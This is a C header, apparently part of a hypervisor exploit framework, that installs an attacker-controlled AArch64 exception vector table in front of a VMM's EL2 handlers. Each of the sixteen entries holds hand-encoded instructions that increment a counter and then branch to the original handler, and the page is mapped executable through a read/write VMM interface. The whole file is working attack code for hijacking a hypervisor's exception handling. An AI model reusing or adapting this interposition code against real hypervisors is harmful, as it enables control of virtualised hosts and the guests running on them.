/*
 * A vector table of the attacker's own between each exception to EL2 and the VMM's handler: an entry
 * counts, then goes on to the VMM's. All registers must reach the VMM as they are, so the way on is a
 * direct branch, which is written when the VMM's table is known.
 */
#pragma once

#include <stdbool.h>
#include <rw/sysreg.h>
#include <rw/vmm_api.h>

#define ENTRIES 16
#define ENTRY_WORDS 32 /* Arm ARM D1.10.2: 128 bytes each */
#define BRANCH_OFFSET_MASK 0x3ffffffu
#define OPCODE_B 0x14000000u

static uint32_t vectors[RW_PAGE_SIZE / 4] __attribute__((aligned(RW_PAGE_SIZE)));
uint64_t redirected_exceptions;

/* What stands in each entry before the branch. The counter's address is the literal behind it. */
static const uint32_t COUNT[] = {
    0xa9bf47f0, /* stp x16, x17, [sp, #-16]! */
    0x580000f0, /* ldr x16, . + 28 */
    0xf9400211, /* ldr x17, [x16] */
    0x91000631, /* add x17, x17, #1 */
    0xf9000211, /* str x17, [x16] */
    0xa8c147f0, /* ldp x16, x17, [sp], #16 */
};
#define COUNT_WORDS (sizeof COUNT / sizeof COUNT[0])
/* Word of the literal: seven words behind the load, which is word 1. */
#define LITERAL_WORD 8

static inline void write_entry(uint32_t *entry, uint64_t original) {
  for (unsigned i = 0; i < COUNT_WORDS; i++) entry[i] = COUNT[i];
  const int64_t distance = (int64_t)(original - (uint64_t)&entry[COUNT_WORDS]);
  entry[COUNT_WORDS] = OPCODE_B | ((uint32_t)(distance / 4) & BRANCH_OFFSET_MASK);
  entry[LITERAL_WORD] = (uint32_t)(uint64_t)&redirected_exceptions;
  entry[LITERAL_WORD + 1] = (uint32_t)((uint64_t)&redirected_exceptions >> 32);
}

/* Writes the table and makes it executable. Returns its address; *mapped says whether it may be run. */
static inline uint64_t vectors_prepare(const struct rw_vmm_api *api, bool *mapped) {
  const uint64_t original = read_sysreg(VBAR_EL2);
  for (unsigned i = 0; i < ENTRIES; i++) {
    write_entry(&vectors[i * ENTRY_WORDS], original + i * ENTRY_WORDS * sizeof(uint32_t));
  }
  const uint64_t page = (uint64_t)vectors;
  *mapped = api->map(page, page, RW_PAGE_SIZE, RW_VMM_MAP_EXECUTE) == 0;
  __asm__ volatile("ic ialluis\n dsb ish\n isb" : : : "memory");
  return page;
}
